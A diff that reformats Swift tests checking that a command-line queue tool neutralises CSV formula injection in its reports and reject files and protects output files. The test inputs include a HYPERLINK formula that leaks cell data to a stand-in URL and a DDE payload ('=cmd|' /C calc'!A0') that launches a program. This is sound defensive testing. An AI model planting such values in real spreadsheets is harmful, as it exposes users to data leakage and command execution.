@@ -13,7 +13,8 @@ import Testing
     @Test func aCSVReportNeutralisesFormulasAndExportKeepsKeysExact() async throws {
         let scratch = try Scratch()
         let db = scratch.path("q.sqlite")
-        let input = try scratch.write("in.ndjson", Self.formulas.map { "{\"contactKey\":\(JSONString($0)),\"data\":{}}" }.joined(separator: "\n"))
+        let input = try scratch.write(
+            "in.ndjson", Self.formulas.map { "{\"contactKey\":\(JSONString($0)),\"data\":{}}" }.joined(separator: "\n"))
         #expect(try await JourneyqProcess.run(["enqueue", "--db", db, "--destination", "d", input]).status == 0)
         let report = scratch.path("report.csv")
         let result = try await JourneyqProcess.run(["report", "--db", db, "--format", "csv", "--output", report])
@@ -21,7 +22,10 @@ import Testing
         let text = try String(contentsOfFile: report, encoding: .utf8)
         #expect(text.contains(#""'=HYPERLINK(""http://x/?""&A1,""ok"")""#))
         for neutral in ["'+1+2", "'@SUM(A1)", "'-2+3", ",plain,"] { #expect(text.contains(neutral), "\(neutral)") }
-        #expect(!text.split(separator: "\n").contains { line in line.split(separator: ",").contains { $0.hasPrefix("=") || $0.hasPrefix("+") || $0.hasPrefix("@") } })
+        #expect(
+            !text.split(separator: "\n").contains { line in
+                line.split(separator: ",").contains { $0.hasPrefix("=") || $0.hasPrefix("+") || $0.hasPrefix("@") }
+            })
         #expect(try mode(report) == 0o600)
         // Keys cannot hold a tab or a carriage return, but reasons can: those cells are neutralised too.
         #expect(ReportRenderer.csvField("\tcmd") == "'\tcmd" && ReportRenderer.csvField("\r=1") == "\"'\r=1\"")
@@ -38,21 +42,28 @@ import Testing
         let scratch = try Scratch()
         let input = try scratch.write("in.csv", "contactKey,email\n=cmd|' /C calc'!A0,\n,x@y.se\nok,a@b.se\n")
         let rejects = scratch.path("rejects.csv")
-        let result = try await JourneyqProcess.run(["enqueue", "--db", scratch.path("q.sqlite"), "--destination", "d", "--skip-invalid", "--rejects", rejects, input])
+        let result = try await JourneyqProcess.run([
+            "enqueue", "--db", scratch.path("q.sqlite"), "--destination", "d", "--skip-invalid", "--rejects", rejects, input,
+        ])
         #expect(result.status == 0, "\(result.stderr)")
         #expect(try mode(rejects) == 0o600)
         let text = try String(contentsOfFile: rejects, encoding: .utf8)
         #expect(text.hasPrefix("line,field,error,record\n"))
         #expect(!text.split(separator: "\n").contains { $0.split(separator: ",").contains { $0.hasPrefix("=") } })
         let ndjson = scratch.path("rejects.ndjson")
-        #expect(try await JourneyqProcess.run(["enqueue", "--db", scratch.path("q2.sqlite"), "--destination", "d", "--skip-invalid", "--rejects", ndjson, input]).status == 0)
+        #expect(
+            try await JourneyqProcess.run([
+                "enqueue", "--db", scratch.path("q2.sqlite"), "--destination", "d", "--skip-invalid", "--rejects", ndjson, input,
+            ]).status == 0)
         #expect(try mode(ndjson) == 0o600)
     }
 
     @Test func anOutputThatNamesADirectoryIsRefusedAndNothingIsDeleted() async throws {
         let scratch = try Scratch()
         let db = scratch.path("q.sqlite")
-        #expect(try await JourneyqProcess.run(["enqueue", "--db", db, "--destination", "d", "-"], stdin: "{\"contactKey\":\"a\"}\n").status == 0)
+        #expect(
+            try await JourneyqProcess.run(["enqueue", "--db", db, "--destination", "d", "-"], stdin: "{\"contactKey\":\"a\"}\n").status == 0
+        )
         let directory = scratch.path("reports")
         try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
         let precious = try scratch.write("reports/keep.txt", "keep")
@@ -65,5 +76,6 @@ import Testing
 }
 
 private func JSONString(_ text: String) -> String {
-    String(decoding: try! JSONSerialization.data(withJSONObject: [text], options: [.withoutEscapingSlashes]), as: UTF8.self).dropFirst().dropLast().description
+    String(decoding: try! JSONSerialization.data(withJSONObject: [text], options: [.withoutEscapingSlashes]), as: UTF8.self).dropFirst()
+        .dropLast().description
 }
